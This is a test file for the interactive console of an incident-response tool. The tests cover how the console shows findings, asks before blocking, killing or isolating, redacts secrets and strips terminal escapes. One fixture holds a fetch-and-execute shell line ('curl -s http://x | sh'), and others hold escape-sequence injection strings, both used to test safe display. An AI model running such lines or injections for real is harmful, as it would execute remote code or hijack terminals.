import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Finding } from '../../src/findings/finding.ts';
import type { OperationTarget } from '../../src/operations/operation.ts';
import type { InputDefinition } from '../../src/playbook/playbook.ts';
import {
  COMMAND,
  makeFile,
  makeFinding,
  makeLook,
  makePlaybook,
  makeProcess,
  makeStep,
  SESSION,
} from '../support/incident-builder.ts';
import { type Script, ScriptedHandle } from '../support/scripted-handle.ts';
import { Conversation } from './conversation.ts';

const MINER = makeFinding('process:1');
const SHADY = makeFinding('process:2', { verdict: 'suspicious', title: 'sh (900)', score: 60 });
const FINE = makeFinding('process:3', { verdict: 'benign', title: 'apt (1190)', score: 5 });
const BLOCK: OperationTarget = { kind: 'block-address', address: '10.66.0.9' };
const KILL: OperationTarget = { kind: 'kill-process', process: makeProcess(812, 'kworkerds') };
const CONNECTION: Finding['subject'] = {
  kind: 'connection',
  protocol: 'tcp',
  remoteAddress: '10.66.0.9',
  remotePort: 443,
  state: 'established',
  process: null,
  isNamedOnly: false,
};
const RUN: OperationTarget = {
  ...COMMAND,
  command: { shell: 'first line\ncurl -s http://x | sh #\u001b[2J\n\n last line' },
  risk: 'reversible',
};
const MOVE: OperationTarget = { kind: 'quarantine-file', file: makeFile('/etc/cron.d/x') };

const script = (plan: readonly OperationTarget[], details: Partial<Script> = {}): Script => ({
  playbook: makePlaybook([makeStep('block-c2', { title: 'Block command and control', attack: ['T1496'] })]),
  look: () => makeLook([MINER, SHADY, FINE]),
  plan: () => plan,
  ...details,
});

function begin(details: Script, settings: ConstructorParameters<typeof Conversation>[1] = {}) {
  const handle = new ScriptedHandle(details);
  return { handle, talk: new Conversation(handle, settings) };
}

describe('a step', () => {
  test('is shown with findings, numbers and what would be done, then run', async () => {
    const { handle, talk } = begin(script([BLOCK]));
    const said = await talk.answer('r');
    expect(said).toContain(
      'A miner on a Linux host (cryptominer-linux) on web-07, Debian GNU/Linux 12 (bookworm)\n',
    );
    expect(said).toContain(
      [
        '[1/1] Block command and control   (2 found)',
        '  1 [x] kworkerds (812) - stratum login seen (malicious, 100)',
        '  2 [ ] sh (900) - stratum login seen (suspicious, 60)',
        '  and 1 more, harmless as far as can be told: f shows all',
        '  would: block-address 10.66.0.9 (reversible, can be undone)',
        '  checked after: it is gone for 3 s',
        '(r)un (c)hoose (w)hy (p)lan (s)kip (m)anual (u)ndo (n)ote (o)utput (q)uit (?) > ',
      ]
        .join('\n')
        .replace('reversible', handle.view().incident.steps[0]?.plan?.risk ?? ''),
    );
    expect(await talk.until('Every step is finished')).toContain(
      '  Block command and control: done block-address 10.66.0.9: done as planned\n',
    );
    await talk.answer('c');
    await talk.answer('all clean');
    expect(await talk.result).toEqual({
      result: 'closed',
      message: 'the incident is closed',
      failed: [],
      skipped: [],
      notRun: [],
    });
    expect(handle.commands[0]).toMatchObject({ kind: 'approve-plan', how: 'line' });
    expect(handle.commands.at(-1)).toEqual({ kind: 'close-incident', reason: 'all clean' });
  });

  test('can be chosen from by numbers, ranges and verdicts, and is planned anew', async () => {
    const { handle, talk } = begin(script([BLOCK]));
    await talk.answer('c 2');
    expect(await talk.until()).toContain('2 [x] sh (900)');
    talk.input.write('choose\n');
    await talk.answer('malicious, 3');
    expect(await talk.until()).toMatch(/2 \[ \] sh .*\n {2}3 \[x\] apt/);
    talk.input.write('c 4\n');
    expect(await talk.until('1 to 3')).toContain('"4" is no finding');
    talk.end();
    await talk.result;
    expect(handle.view().incident.steps[0]?.chosen).toEqual(['process:1', 'process:3']);
  });

  test('has findings that can be declared ours, with a reason, and that taken back', async () => {
    const probe = makeFinding('connection:1', { subject: CONNECTION, title: '10.66.0.9:443' });
    const { handle, talk } = begin({ ...script([BLOCK]), look: () => makeLook([probe, SHADY]) });
    await talk.answer('d 1 our probe');
    await talk.answer('d');
    expect(await talk.until()).toContain('10.66.0.9, declared ours by ana: our probe');
    talk.input.write('d 1 a mistake\n');
    await talk.answer('d');
    expect(await talk.until()).toContain('Nothing was declared ours.');
    talk.input.write('d 7 x\n');
    expect(await talk.until()).toContain('There is no finding 7.');
    talk.end();
    await talk.result;
    expect(handle.commands).toMatchObject([
      { kind: 'declare-ours', stepId: 'block-c2', findingId: 'connection:1', reason: 'our probe' },
      { kind: 'take-back-declaration', reason: 'a mistake' },
    ]);
  });

  test('has secrets that are ticked off by their number, with a word; at the end those of all steps', async () => {
    const secret = (name: string): Finding =>
      makeFinding(`secret:${name}`, {
        ...{ title: `AWS access key ${name}`, verdict: 'unknown', score: 25 },
        subject: {
          ...{ kind: 'secret', secret: 'aws-access-key', path: '/root/.aws/credentials', line: 2 },
          ...{ keyId: name, isEncrypted: null, advice: 'Make it inactive in IAM.' },
        },
      });
    const keys = { keys: ['AKIA1', 'AKIA2'], again: ['AKIA3'] } as Readonly<Record<string, string[]>>;
    const { handle, talk } = begin({
      playbook: makePlaybook([makeStep('keys'), makeStep('again')]),
      look: (stepId) => makeLook((keys[stepId] ?? []).map(secret)),
      plan: () => [],
    });
    const ticked = () => handle.commands.filter(({ kind }) => kind === 'tick-item').at(-1);
    expect(await talk.answer('t 2')).toContain('2 [ ] AWS access key AKIA2');
    expect(await talk.answer('inactive in IAM')).toContain('Never the secret itself');
    expect(await talk.answer('t')).toContain('Ticked off.');
    const listed = await talk.answer('t 2');
    expect(listed).toContain('1 of 2 ticked off');
    expect(listed).toMatch(/2 \[x\] AWS access key AKIA2 - replaced \S+ \w+: inactive in IAM/);
    expect(await talk.answer('r')).toContain('Not ticked off any more.');
    await talk.until('[2/2]');
    await talk.answer('r');
    await talk.until('Every step is finished');
    await talk.answer('t');
    const all = await talk.answer('t 3 in the console');
    expect(all).toContain('2 [ ] AWS access key AKIA2');
    expect(all).toContain('3 [ ] AWS access key AKIA3');
    expect(await talk.answer('t 4')).toContain('Ticked off.');
    expect(await talk.until()).toContain('There is no item 4');
    expect(ticked()).toMatchObject({
      ...{ stepId: 'again', itemId: 'secret:AKIA3', isDone: true, note: 'in the console' },
    });
  });

  test('tells why, the whole of a finding, the plan with its commands, and what else can be answered', async () => {
    const { talk } = begin(script([MOVE]));
    await talk.answer('w');
    expect(await talk.answer('w 1')).toContain('  Why block-c2 is done. (ATT&CK T1496)');
    expect(await talk.answer('why 9')).toMatch(
      /judged malicious, 100 of 100\n {4}against it: stratum login seen \(80\)\n {4}read in \/proc\/812\/exe/,
    );
    expect(await talk.answer('p')).toContain('There is no finding 9.');
    expect(await talk.answer('f')).toMatch(/quarantine-file \/etc\/cron\.d\/x \(.*\)\n {4}\S/);
    expect(await talk.answer('?')).toContain('3 [ ] apt (1190)');
    expect(await talk.answer('x')).toContain('  (l)ook: look and plan again\n');
    expect(await talk.until()).toContain('There is no "x" here.');
    talk.end();
    await talk.result;
  });

  test('that cannot be undone needs its word, exactly', async () => {
    const { handle, talk } = begin(script([KILL]));
    await talk.answer('r');
    expect(await talk.answer('yes')).toContain('This cannot be undone. Type kill to do it');
    await talk.answer('r');
    expect(handle.commands).toEqual([]);
    await talk.answer('kill');
    await talk.until('Every step is finished');
    expect(handle.commands[0]).toMatchObject({ kind: 'approve-plan', how: 'word' });
    talk.end();
    await talk.result;
  });

  test('that runs a command of the playbook shows all of it before it is approved', async () => {
    const { handle, talk } = begin(script([RUN]));
    expect(await talk.answer('q')).toContain(
      '  it runs:\n    first line\n    curl -s http://x | sh #\\x1b[2J\n    \n     last line\n',
    );
    expect(handle.commands).toEqual([]);
    await talk.result;
  });

  test('that would close a last way in is asked twice, with what is left', async () => {
    const remark = 'Left to get in by over SSH: bob by a password.';
    const { handle, talk } = begin(
      script([MOVE], { planDetails: () => ({ word: 'close', remarks: [remark] }) }),
    );
    expect(await talk.answer('r')).toContain(remark);
    expect(handle.commands).toEqual([]);
    const { planHash } = handle.view().question as { planHash: string };
    const refused = await handle.send({ kind: 'approve-plan', stepId: 'block-c2', planHash, how: 'line' });
    expect(JSON.stringify(refused)).toContain('asked twice: type close');
    expect(await talk.answer('close')).toContain('Others may be locked out: see above. Type close to do it');
    await talk.until('Every step is finished');
    expect(handle.commands.at(-1)).toMatchObject({ kind: 'approve-plan', how: 'word' });
    talk.end();
    await talk.result;
  });

  test('can be skipped, done by hand and noted, never without a word', async () => {
    const playbook = makePlaybook([makeStep('one'), makeStep('two')]);
    const { handle, talk } = begin(script([BLOCK], { playbook }));
    await talk.answer('s');
    await talk.answer('');
    expect(await talk.answer('n')).toContain('Nothing typed, nothing done.');
    await talk.answer('the owner was told');
    expect(await talk.answer('s not ours')).toContain('Noted.');
    await talk.answer('m');
    await talk.answer('pulled the plug');
    await talk.until('Every step is finished');
    talk.end();
    await talk.result;
    expect(handle.view().incident.steps.map((step) => [step.status, step.reason])).toEqual([
      ['skipped', 'not ours'],
      ['by-hand', 'pulled the plug'],
    ]);
    expect(handle.view().incident.notes[0]).toMatchObject({ stepId: 'one', text: 'the owner was told' });
  });

  test('can be taken back after saying what that means, and opened again', async () => {
    const { handle, talk } = begin(script([BLOCK]));
    await talk.answer('u');
    expect(await talk.answer('r')).toContain('Nothing has been done that can be taken back.');
    await talk.answer('u 1');
    expect(await talk.answer('y')).toContain('takes back: block-address 10.66.0.9');
    expect(await talk.until('Every step is finished')).toContain('undone block-address 10.66.0.9: put back');
    await talk.answer('g 1');
    await talk.until('[1/1] Block');
    talk.end();
    await talk.result;
    expect(handle.commands.map((command) => command.kind)).toEqual([
      'approve-plan',
      'undo-step',
      'open-step',
    ]);
  });
});

describe('other questions', () => {
  test('isolation asks with the seconds, and Enter keeps it', async () => {
    const isolate: OperationTarget = {
      kind: 'isolate-host',
      allowedPeers: [],
      allowDns: true,
      confirmWithinMs: 60_000,
      mustReach: null,
      mustNotReach: null,
    };
    const details = script([isolate], { perform: () => ({ confirmBefore: 60_000 }) });
    const { handle, talk } = begin(details, { nowMs: () => 2500 });
    await talk.answer('r');
    expect(await talk.answer('')).toContain('You are still connected? Enter within 58 s keeps it');
    await talk.until('Every step is finished');
    expect(handle.commands).toContainEqual({
      kind: 'confirm-operation',
      operationId: 'block-c2.1.1',
      how: 'responder',
    });
    talk.end();
    await talk.result;
  });

  test('isolation that took itself back meanwhile overtakes the question', async () => {
    const isolate: OperationTarget = {
      kind: 'isolate-host',
      allowedPeers: [],
      allowDns: true,
      confirmWithinMs: 60_000,
      mustReach: null,
      mustNotReach: null,
    };
    const { handle, talk } = begin(script([isolate], { perform: () => ({ confirmBefore: 60_000 }) }));
    await talk.answer('r');
    await talk.until('still connected?');
    handle.happen({
      kind: 'operation-confirmed',
      stepId: 'block-c2',
      operationId: 'block-c2.1.1',
      how: 'responder',
      verification: { status: 'does-not-hold', detail: 'not confirmed in time' },
    });
    expect(await talk.until('(a)gain')).toContain('failed: not confirmed in time');
    talk.end();
    await talk.result;
  });

  test('a failure can be tried again or left behind', async () => {
    let isBroken = true;
    const details = script([BLOCK], {
      playbook: makePlaybook([makeStep('one'), makeStep('two')]),
      perform: () => (isBroken ? { status: 'failed', message: 'nft: busy' } : {}),
    });
    const { handle, talk } = begin(details);
    await talk.answer('r');
    const said = await talk.answer('a');
    expect(said).toContain('  ! One: done'.replace('done', 'failed block-address 10.66.0.9: nft: busy'));
    expect(said).toContain('  failed: nft: busy\n(a)gain (l)eave (s)kip');
    isBroken = false;
    await talk.answer('r');
    await talk.until('[2/2]');
    isBroken = true;
    await talk.answer('r');
    await talk.answer('l');
    await talk.until('Every step is finished');
    talk.input.write('close done enough\n');
    expect(await talk.result).toMatchObject({ result: 'closed', failed: ['two'] });
    expect(handle.view().incident.steps[0]?.status).toBe('done');
  });

  test('inputs are asked with what is expected, checked, and secrets are not shown', async () => {
    const input = (details: Partial<InputDefinition>): InputDefinition => ({
      type: 'string',
      isList: false,
      description: 'd',
      isRequired: true,
      isSecret: false,
      default: null,
      options: [],
      pattern: null,
      ...details,
    });
    const playbook = makePlaybook([makeStep('one')], {
      inputs: { peers: input({ type: 'ip', isList: true }), key: input({ isSecret: true }) },
    });
    const { handle, talk } = begin(script([], { playbook }));
    expect(await talk.answer('nonsense')).toContain('peers: d (ip, several with commas between)');
    expect(await talk.answer('10.8.0.4, 10.8.0.5')).toContain('That will not do: ');
    const before = await talk.until('key > ');
    expect(before).toContain('key: d (string, not shown)');
    expect(talk.rawModes.at(-1)).toBe(true);
    talk.input.write('hunter\x7f\x7f3\r');
    await talk.until('[1/1]');
    expect(talk.rawModes.at(-1)).toBe(false);
    expect(handle.commands[0]).toEqual({
      kind: 'give-inputs',
      values: { peers: ['10.8.0.4', '10.8.0.5'], key: 'hunt3' },
    });
    expect(talk.text).not.toContain('hunt');
    talk.end();
    await talk.result;
  });

  test('inputs can be looked at and changed later, and what follows from them is planned again', async () => {
    const peers: InputDefinition = {
      type: 'ip',
      isList: true,
      description: 'd',
      isRequired: false,
      isSecret: false,
      default: [],
      options: [],
      pattern: null,
    };
    const playbook = makePlaybook([makeStep('one')], { inputs: { peers } });
    const { handle, talk } = begin(script([BLOCK], { playbook }));
    await talk.answer('i');
    expect(await talk.answer('peers')).toContain('  peers: null\n');
    await talk.answer('10.8.0.4');
    await talk.until('[1/1]');
    await talk.answer('i nonsense');
    expect(await talk.answer('i peers')).toContain('The playbook has no input "nonsense".');
    await talk.until('peers > ');
    talk.end();
    await talk.result;
    expect(handle.view().incident.inputs).toEqual({ peers: ['10.8.0.4'] });
    expect(handle.view().incident.steps[0]?.plansMade).toBe(2);
  });

  test('a manual step shows what to do and asks for each thing to write down', async () => {
    const manual = { instructions: ['Take a new image', 'Restore data'], record: ['Which image', 'Who'] };
    const playbook = makePlaybook([makeStep('rebuild', { uses: 'manual', manual })]);
    const { handle, talk } = begin({ playbook });
    expect(await talk.answer('d')).toContain(
      '  1 [ ] Take a new image\n  2 [ ] Restore data\n  write down: Which image\n',
    );
    await talk.answer('bookworm-7');
    await talk.answer('ana');
    await talk.until('Every step is finished');
    expect(handle.view().incident.steps[0]?.reason).toBe('Which image: bookworm-7; Who: ana');
    talk.end();
    await talk.result;
  });

  test('an operation that was cut off is asked about', async () => {
    const operation = { ...BLOCK, id: 'block-c2.1.1', because: [] };
    const details = script([BLOCK], {
      recover: () => ({ status: 'unknown', detail: 'no trace of it' }),
      before: [
        {
          kind: 'plan-made',
          stepId: 'block-c2',
          plan: {
            number: 1,
            operations: [operation],
            hash: 'h',
            risk: 'reversible',
            checkedAfter: '',
            remarks: [],
            watch: null,
          },
        },
        { kind: 'plan-approved', stepId: 'block-c2', planHash: 'h', how: 'key' },
        {
          kind: 'operation-started',
          stepId: 'block-c2',
          operationId: operation.id,
          receipt: { kind: 'block-address' },
          evidence: [],
        },
        { kind: 'runner-attached', session: SESSION },
      ],
    });
    const { handle, talk } = begin(details);
    expect(await talk.answer('y')).toMatch(
      /block-address 10.66.0.9 was begun and cut off.\n.*no trace of it\n {4}nft /,
    );
    await talk.until('Every step is finished');
    expect(handle.commands[0]).toEqual({
      kind: 'answer-recovery',
      operationId: operation.id,
      didHappen: true,
    });
    talk.end();
    await talk.result;
  });

  test('output is shown by its end or whole, with escapes made visible', async () => {
    const bytes = Buffer.concat([
      Buffer.from('first line\n'),
      Buffer.from('é\n'.repeat(40_000)),
      Buffer.from('\x1b[2Jlast line password=hunter2\n'),
    ]);
    const { talk } = begin(script([BLOCK], { output: () => bytes }));
    await talk.answer('r');
    await talk.answer('o');
    const end = await talk.until('-- end\n');
    expect(end).toContain('-- the last 4.1 kB; `o 1 all` shows the whole');
    expect(end).toContain('\\x1b[2Jlast line password=[redacted password]\n');
    expect(end).not.toContain('first line');
    await talk.answer('o 1 all');
    const whole = await talk.until('-- end\n');
    expect(whole).toContain('first line\n');
    expect(whole.match(/^é$/gm)).toHaveLength(40_000);
    talk.end();
    await talk.result;
  });
});

test('endless output can be stopped, and waits for a terminal that takes no more', async () => {
  let parts = 0;
  class Endless extends ScriptedHandle {
    override async readOutput() {
      parts += 1;
      return { bytes: Buffer.from('line\n'.repeat(1000)), totalBytes: Number.MAX_SAFE_INTEGER };
    }
  }
  const handle = new Endless(script([BLOCK], { output: () => Buffer.from('x') }));
  const talk = new Conversation(handle, { isStalled: true });
  await talk.answer('r');
  await talk.answer('o 1 all');
  await talk.until('line\nline\n');
  await talk.stalled;
  talk.interrupt();
  talk.release();
  await talk.until('-- stopped');
  expect(parts).toBeLessThan(10);
  talk.end();
  await talk.result;
});

describe('leaving', () => {
  test('the end of the input leaves the incident resumable', async () => {
    const { handle, talk } = begin(script([BLOCK]));
    await talk.until();
    talk.end();
    expect(await talk.result).toMatchObject({
      result: 'left',
      message: 'the input ended',
      notRun: ['block-c2'],
    });
    expect(handle.leftBecause).toBe('the input ended');
    expect(handle.view().incident.closedAt).toBeNull();
    expect(talk.text).toContain('`tourniquet resume web-07-20261123-0412` goes on from here.\n');
  });

  test('q leaves', async () => {
    const { talk } = begin(script([BLOCK]));
    await talk.answer('q');
    expect(await talk.result).toMatchObject({ result: 'left' });
  });

  test('Ctrl-C asks; no goes on with the same question, a second Ctrl-C leaves', async () => {
    const { handle, talk } = begin(script([BLOCK]));
    await talk.until();
    talk.interrupt();
    expect(await talk.answer('n')).toContain('Leave? The incident stays as it is and can be resumed.');
    await talk.until('(r)un');
    await talk.until();
    talk.interrupt();
    await talk.until('Leave?');
    talk.interrupt();
    expect(await talk.result).toMatchObject({ result: 'interrupted' });
    expect(handle.leftBecause).toBe('interrupted');
  });

  test('Ctrl-C while something runs offers to cancel it', async () => {
    let open = () => {};
    const gate = () => new Promise<void>((resolve) => (open = resolve));
    const { talk } = begin(script([BLOCK], { gate }));
    await talk.answer('r');
    await talk.until('started block-address');
    talk.interrupt();
    await talk.answer('c');
    await talk.until('Cancelling.');
    open();
    expect(await talk.until('(a)gain')).toContain('failed: cancelled');
    talk.end();
    await talk.result;
  });

  test('a signal leaves without asking, whatever is asked at the moment', async () => {
    const abort = new AbortController();
    const { handle, talk } = begin(script([BLOCK]), { signal: abort.signal });
    await talk.until();
    abort.abort();
    expect(await talk.result).toMatchObject({ result: 'interrupted', message: 'ended by a signal' });
    expect(handle.leftBecause).toBe('ended by a signal');
  });

  test('a runner that stops ends the conversation with its reason', async () => {
    const { handle, talk } = begin(script([BLOCK]));
    await talk.until();
    handle.stop('another runner has taken over: bo');
    expect(await talk.result).toMatchObject({
      result: 'stopped',
      message: 'another runner has taken over: bo',
    });
  });
});

describe('what is typed and shown', () => {
  test('on a terminal, what was typed before the question is not an answer to it', async () => {
    let open = () => {};
    const gate = () => new Promise<void>((resolve) => (open = resolve));
    const playbook = makePlaybook([makeStep('one'), makeStep('two')]);
    const { handle, talk } = begin(script([BLOCK], { playbook, gate }));
    await talk.answer('r');
    await talk.until('started block-address');
    talk.input.write('r\n');
    await talk.until('(typed before it was asked for: not used)');
    open();
    await talk.until('[2/2]');
    await talk.until();
    expect(handle.commands).toHaveLength(1);
    talk.end();
    await talk.result;
  });

  test('from a pipe, everything can be written beforehand, and it can be read afterwards what was answered', async () => {
    const playbook = makePlaybook([makeStep('one'), makeStep('two')]);
    const { talk } = begin(script([BLOCK], { playbook }), { isTerminal: false });
    talk.input.end('r\ns because\nc\n\n');
    expect(await talk.result).toMatchObject({ result: 'closed', skipped: ['two'] });
    expect(talk.text).toContain('(?) > s because\n');
  });

  test('no line of it moves a cursor, has colour, or obeys what the host said', async () => {
    const title = 'x\x1b[2J\x1b]0;t\x07\r\u202e\u009b\n[9/9] fake';
    const details = script([BLOCK], {
      look: () =>
        makeLook([makeFinding('process:1', { title })], {
          unknowns: [{ scope: 'cron', what: '/var/spool/cron', reason: 'permission denied' }],
        }),
      perform: () => ({ message: title }),
      playbook: makePlaybook([makeStep('one')], { title: 'é playbook' }),
    });
    const { talk } = begin(details, { isAscii: true });
    expect(await talk.answer('r')).toContain('  ? not known: cron, /var/spool/cron: permission denied');
    await talk.until('Every step is finished');
    talk.end();
    await talk.result;
    expect(talk.text).toMatch(/^[\x20-\x7e\n]*$/);
    expect(talk.text).toContain('\\u00e9 playbook');
    expect(talk.text).not.toMatch(/^\[9\/9\] fake/m);
  });

  test('something that takes long says that it is still at it', async () => {
    let open = () => {};
    const gate = () => new Promise<void>((resolve) => (open = resolve));
    const { talk } = begin(script([BLOCK], { gate }), {
      nowMs: () => Number.MAX_SAFE_INTEGER,
      stillEveryMs: 5,
    });
    await talk.answer('r');
    await talk.until('started block-address');
    await talk.until('still performing block-address 10.66.0.9');
    open();
    await talk.until('Every step is finished');
    talk.end();
    await talk.result;
  });
});

test('whatever is typed, in whatever order, it ends with an incident that is closed or can be resumed', async () => {
  const line = fc.oneof(
    {
      weight: 6,
      arbitrary: fc.constantFrom(
        'r',
        'c 1',
        'c all',
        'w',
        'w 1',
        'p',
        's no',
        'm yes',
        'n hm',
        'o',
        'o 1 all',
        'g 1',
        'g 2',
        'l',
        'a',
        'u 1',
        'y',
        'n',
        'd',
        'f',
        '?',
        'i',
        '',
      ),
    },
    { weight: 1, arbitrary: fc.constantFrom('kill', 'c', 'q') },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  );
  await fc.assert(
    fc.asyncProperty(fc.array(line, { maxLength: 40 }), async (lines) => {
      const steps = [
        makeStep('one'),
        makeStep('two', { needs: ['one'] }),
        makeStep('three', { uses: 'manual', manual: { instructions: ['x'], record: ['y'] } }),
      ];
      let count = 0;
      const { handle, talk } = begin(
        script([], {
          playbook: makePlaybook(steps),
          plan: (step) => (step.id === 'one' ? [BLOCK] : step.id === 'two' ? [KILL] : []),
          perform: () => (++count % 3 === 0 ? { status: 'failed', message: 'no' } : {}),
          output: () => Buffer.from('out\n'),
        }),
        { isTerminal: false },
      );
      talk.input.end(lines.map((one) => `${one}\n`).join(''));
      const { result } = await talk.result;
      expect(['closed', 'left']).toContain(result);
      expect(handle.view().incident.closedAt !== null || handle.leftBecause !== null).toBe(true);
      expect(talk.text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
    }),
    { numRuns: 150 },
  );
});
